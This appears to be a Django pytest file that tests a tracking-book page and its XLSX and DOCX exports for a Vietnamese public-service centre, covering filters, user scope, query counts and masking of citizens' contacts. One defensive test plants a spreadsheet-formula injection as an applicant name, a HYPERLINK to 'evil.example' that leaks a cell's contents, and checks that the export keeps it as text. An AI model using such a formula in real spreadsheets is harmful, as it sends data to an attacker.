"""Form 07, the tracking book: page, XLSX, filters, scope and query count."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from bs4 import BeautifulSoup
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from cchc.dossiers.models import Status, Timeliness
from cchc.testing import html

from .test_documents_forms import VN, dossier, history

BOOK = reverse("dossiers_documents:tracking_book")


def make_many(province, n, *, desk=None, agency=None, day=dt.date(2026, 1, 5), prefix="A"):
    made = []
    for i in range(n):
        received = dt.datetime.combine(day, dt.time(8, 0), tzinfo=VN) + dt.timedelta(minutes=i)
        d = dossier(
            province,
            code=f"{prefix}-{day:%y%m%d}-{i:04d}",
            desk=desk,
            agency=agency,
            received=received,
            book_line=i + 1,
        )
        history(d, province)
        made.append(d)
    return made


def rows_of(response):
    assert response.status_code == 200
    soup = BeautifulSoup(response.content, "html.parser")
    return [
        [td.get_text(strip=True) for td in tr.select("td")] for tr in soup.select("#book tbody tr")
    ]


@pytest.fixture
def book(province):
    late = dossier(
        province,
        code="000.00.20.H10-260105-0001",
        status=Status.RESULT_READY,
        finished_at=dt.datetime(2026, 1, 30, 9, 0, tzinfo=VN),
        finished_date=dt.date(2026, 1, 30),
        timeliness=Timeliness.LATE,
        returned_at=dt.datetime(2026, 2, 4, 10, 15, tzinfo=VN),
        apologized_at=dt.datetime(2026, 1, 23, 10, 0, tzinfo=VN),
        apology_due_date=dt.date(2026, 2, 3),
        supplement_count=2,
    )
    history(late, province)
    # Received at the commune desk, outside the centre's scope.
    commune = dossier(
        province,
        code="000.31.17.H10-260106-0001",
        desk=province.desk_a,
        agency=province.commune_a,
        received=dt.datetime(2026, 1, 6, 8, 15, tzinfo=VN),
        applicant_name="Trần Thị Cúc",
        book_line=3,
    )
    # Received in February: outside the January period.
    dossier(
        province,
        code="000.00.20.H10-260202-0001",
        received=dt.datetime(2026, 2, 2, 8, 0, tzinfo=VN),
        applicant_name="Lê Văn Đông",
    )
    return late, commune


def test_book_page_columns_and_notes(province, client_as, book):
    late, _ = book
    client = client_as(province.noivu)
    rows = rows_of(client.get(BOOK, {"from": "2026-01-01", "to": "2026-01-31"}))
    assert [r[1] for r in rows] == [late.code, "000.31.17.H10-260106-0001"]
    first = rows[0]
    assert first[0] == "17"  # the line in the book
    assert "khai sinh" in first[2]
    assert first[3] == "1"
    assert first[4] == "Nguyễn Văn Bình"
    # Home Affairs follows the book, not the citizens: their contact is masked (Decree 13).
    assert first[5] == "*******678"
    assert first[6] == "Sở Tư pháp"
    assert first[7] == "09:30 05/01/2026"
    assert first[8] == "16:30 26/01/2026"
    assert first[9] == "Sở Tư pháp (11:30 05/01/2026)"
    assert first[10] == "30/01/2026"
    assert first[11] == "10:15 04/02/2026"
    assert "Đã xin lỗi, hẹn lại ngày 03/02/2026" in first[12]
    assert "Yêu cầu bổ sung 2 lần (từ 2 lần trở lên)" in first[12]
    assert "Quá hạn" in first[12]
    soup = BeautifulSoup(client.get(BOOK).content, "html.parser")
    headers = [th.get_text(strip=True) for th in soup.select("#book thead th")]
    assert headers[:3] == ["STT", "Mã hồ sơ", "Tên thủ tục hành chính"]
    assert headers[-1] == "Ghi chú" and len(headers) == 13


def test_book_filters_by_desk_and_period(province, client_as, book):
    client = client_as(province.noivu)
    rows = rows_of(
        client.get(BOOK, {"from": "2026-01-01", "to": "2026-01-31", "desk": province.desk_a.pk})
    )
    assert [r[4] for r in rows] == ["Trần Thị Cúc"]
    rows = rows_of(client.get(BOOK, {"from": "2026-02-01", "to": "2026-02-28"}))
    assert [r[4] for r in rows] == ["Lê Văn Đông"]


def test_book_is_scoped_to_the_user(province, client_as, book):
    # The centre's one-stop officer sees the centre's book, not the commune desk's.
    rows = rows_of(client_as(province.motcua).get(BOOK, {"from": "2026-01-01", "to": "2026-01-31"}))
    assert [r[4] for r in rows] == ["Nguyễn Văn Bình"]
    # The commune officer sees only the commune's dossier.
    client = client_as(province.motcua_xa)
    rows = rows_of(client.get(BOOK, {"from": "2026-01-01", "to": "2026-01-31"}))
    assert [r[4] for r in rows] == ["Trần Thị Cúc"]
    # Another commune's officer sees nothing, even when asking for the centre as the desk.
    client = client_as(province.motcua_xa_b)
    response = client.get(
        BOOK, {"from": "2026-01-01", "to": "2026-01-31", "desk": province.centre.pk}
    )
    soup = BeautifulSoup(response.content, "html.parser")
    assert "Nguyễn Văn Bình" not in soup.get_text()
    assert soup.select_one(".msg-error") is not None  # the desk is not among the choices
    xlsx = client.get(BOOK, {"from": "2026-01-01", "to": "2026-01-31", "format": "xlsx"})
    ws = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    assert ws.max_row == 3  # title, period, header: no dossier of another agency


def test_book_xlsx_content(province, client_as, book):
    late, _ = book
    client = client_as(province.noivu)
    response = client.get(BOOK, {"from": "2026-01-01", "to": "2026-01-31", "format": "xlsx"})
    assert response.status_code == 200
    assert "so-theo-doi-ho-so-20260101-20260131.xlsx" in response["Content-Disposition"]
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    ws = wb.active
    values = list(ws.iter_rows(values_only=True))
    assert values[0][0] == "SỔ THEO DÕI HỒ SƠ"
    assert values[1][0] == "Từ ngày 01/01/2026 đến ngày 31/01/2026"
    assert values[2][:2] == ("STT", "Mã hồ sơ") and values[2][-1] == "Ghi chú"
    assert len(values) == 5
    row = values[3]
    assert row[0] == 17 and row[1] == late.code and row[3] == 1
    assert row[7] == "09:30 05/01/2026" and row[10] == "30/01/2026"
    assert "Đã xin lỗi" in row[12]
    assert values[4][4] == "Trần Thị Cúc"


def test_book_bad_period(province, client_as):
    client = client_as(province.noivu)
    soup = BeautifulSoup(
        client.get(BOOK, {"from": "2026-02-01", "to": "2026-01-01"}).content, "html.parser"
    )
    assert "Ngày kết thúc không được trước ngày bắt đầu." in html.text(soup, ".msg-error")
    soup = BeautifulSoup(client.get(BOOK, {"from": "31/02/2026"}).content, "html.parser")
    assert soup.select_one(".msg-error") is not None


def test_book_query_count_does_not_grow(province, client_as):
    client = client_as(province.noivu)
    params = {"from": "2026-01-01", "to": "2026-01-31"}
    make_many(province, 2)
    client.get(BOOK, params)  # warm the session and content types
    with CaptureQueriesContext(connection) as few:
        assert len(rows_of(client.get(BOOK, params))) == 2
    make_many(province, 10, prefix="B", day=dt.date(2026, 1, 7))
    with CaptureQueriesContext(connection) as many:
        assert len(rows_of(client.get(BOOK, params))) == 12
    # session, user, second factor (none: no code asked), agency, province (scope), the desks
    # of the filter, the rows
    assert len(many.captured_queries) == len(few.captured_queries) <= 8
    with CaptureQueriesContext(connection) as export:
        client.get(BOOK, {**params, "format": "xlsx"})
    assert len(export.captured_queries) <= 8
    # A desk officer sees the contacts; the access log is written in batches, not per row.
    desk = client_as(province.motcua)
    desk.get(BOOK, params)
    with CaptureQueriesContext(connection) as recorded:
        desk.get(BOOK, {**params, "format": "xlsx"})
    assert len(recorded.captured_queries) <= 9


def test_book_requires_login(client):
    response = client.get(BOOK)
    assert response.status_code == 302


def test_book_docx_landscape(province, client_as, book):
    from docx import Document
    from docx.enum.section import WD_ORIENT

    late, _ = book
    client = client_as(province.motcua)
    response = client.get(BOOK, {"from": "2026-01-01", "to": "2026-01-31", "format": "docx"})
    assert response.status_code == 200
    assert "so-theo-doi-ho-so-20260101-20260131.docx" in response["Content-Disposition"]
    doc = Document(io.BytesIO(response.content))
    assert doc.sections[0].orientation == WD_ORIENT.LANDSCAPE
    assert "TRUNG TÂM PHỤC VỤ HÀNH CHÍNH CÔNG THÀNH PHỐ" in doc.tables[0].cell(0, 0).text
    table = doc.tables[1]
    assert table.rows[0].cells[1].text == "Mã hồ sơ"
    assert [r.cells[1].text for r in table.rows[1:]] == [late.code]  # only the centre's dossier


def test_book_page_stops_at_its_limit(province, client_as, monkeypatch):
    from cchc.dossiers.documents import views

    monkeypatch.setattr(views, "BOOK_PAGE_LIMIT", 2)
    make_many(province, 3)
    response = client_as(province.noivu).get(BOOK, {"from": "2026-01-01", "to": "2026-01-31"})
    assert len(rows_of(response)) == 2
    soup = BeautifulSoup(response.content, "html.parser")
    assert "XLSX" in html.text(soup, ".msg-warning")
    xlsx = client_as(province.noivu).get(
        BOOK, {"from": "2026-01-01", "to": "2026-01-31", "format": "xlsx"}
    )
    ws = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    assert ws.max_row == 3 + 3  # the export has every row


def test_book_xlsx_keeps_a_formula_typed_as_a_name_as_text(province, client_as):
    """Issue 14, finding 2: an applicant named ``=HYPERLINK(…)`` stays text in the export."""
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
    d = dossier(
        province,
        code="000.00.20.H10-260105-0009",
        received=dt.datetime(2026, 1, 5, 9, 0, tzinfo=VN),
        applicant_name=hostile,
    )
    history(d, province)
    client = client_as(province.noivu)
    response = client.get(BOOK, {"from": "2026-01-01", "to": "2026-01-31", "format": "xlsx"})
    data = b"".join(response.streaming_content)
    cell = next(
        c
        for row in load_workbook(io.BytesIO(data)).active.iter_rows()
        for c in row
        if c.value == hostile
    )
    assert cell.data_type == "s"
    assert b"<f>" not in data and b"HYPERLINK" not in _sheet_xml_formulas(data)


def _sheet_xml_formulas(data: bytes) -> bytes:
    import re
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    return b"".join(re.findall(rb"<f>(.*?)</f>", xml))


def _xlsx_rows(response) -> list[tuple]:
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return list(ws.iter_rows(min_row=4, values_only=True))


def _accesses(user):
    from cchc.core.models import PersonalDataAccess

    return list(
        PersonalDataAccess.objects.filter(user=user)
        .order_by("id")
        .values_list("object_repr", "channel")
    )


def test_book_xlsx_masks_the_contact_of_whoever_does_not_work_the_dossier(
    province, client_as, book
):
    """Issue 14, item 13: the export follows the dossier page's rule, not its own."""
    late, commune = book
    params = {"from": "2026-01-01", "to": "2026-01-31", "format": "xlsx"}
    rows = _xlsx_rows(client_as(province.noivu).get(BOOK, params))
    assert [r[5] for r in rows] == ["*******678", "*******678"]
    assert not any("0912345678" in str(v) or "Hòa Bình" in str(v) for r in rows for v in r)
    assert _accesses(province.noivu) == []  # nothing unmasked, nothing recorded
    docx = client_as(province.noivu).get(BOOK, {**params, "format": "docx"})
    assert b"0912345678" not in docx.content
    assert _accesses(province.noivu) == []


def test_book_xlsx_shows_and_records_the_contact_for_the_desk_officer(province, client_as, book):
    late, commune = book
    params = {"from": "2026-01-01", "to": "2026-01-31"}
    client = client_as(province.motcua)  # the centre's desk: the late dossier only
    rows = _xlsx_rows(client.get(BOOK, {**params, "format": "xlsx"}))
    assert [r[1] for r in rows] == [late.code]
    assert rows[0][5] == "12 Hòa Bình, phường Ninh Kiều, Cần Thơ, 0912345678"
    assert _accesses(province.motcua) == [(late.code, "export")]
    page = rows_of(client.get(BOOK, params))
    assert "0912345678" in page[0][5]
    assert _accesses(province.motcua)[-1] == (late.code, "web")


def test_book_masks_row_by_row_by_who_works_each_dossier(province, client_as, book):
    """The commune's one-stop officer sees, in one book, a dossier received at their desk
    (theirs to call the citizen about) and one received at the centre for the commune (not
    theirs): the contact of the first only."""
    received_elsewhere = dossier(
        province,
        code="000.00.20.H10-260107-0001",
        agency=province.commune_a,
        received=dt.datetime(2026, 1, 7, 8, 0, tzinfo=VN),
        applicant_name="Phan Văn Em",
        applicant_phone="0987654321",
    )
    history(received_elsewhere, province)
    client = client_as(province.motcua_xa)
    rows = _xlsx_rows(
        client.get(BOOK, {"from": "2026-01-01", "to": "2026-01-31", "format": "xlsx"})
    )
    assert [(r[4], r[5]) for r in rows] == [
        ("Trần Thị Cúc", "12 Hòa Bình, phường Ninh Kiều, Cần Thơ, 0912345678"),
        ("Phan Văn Em", "*******321"),
    ]
    assert _accesses(province.motcua_xa) == [("000.31.17.H10-260106-0001", "export")]
    # The system administrator works every dossier.
    rows = _xlsx_rows(
        client_as(province.admin).get(
            BOOK, {"from": "2026-01-01", "to": "2026-01-31", "format": "xlsx"}
        )
    )
    assert all(r[5].endswith(("0912345678", "0987654321")) for r in rows) and len(rows) == 3
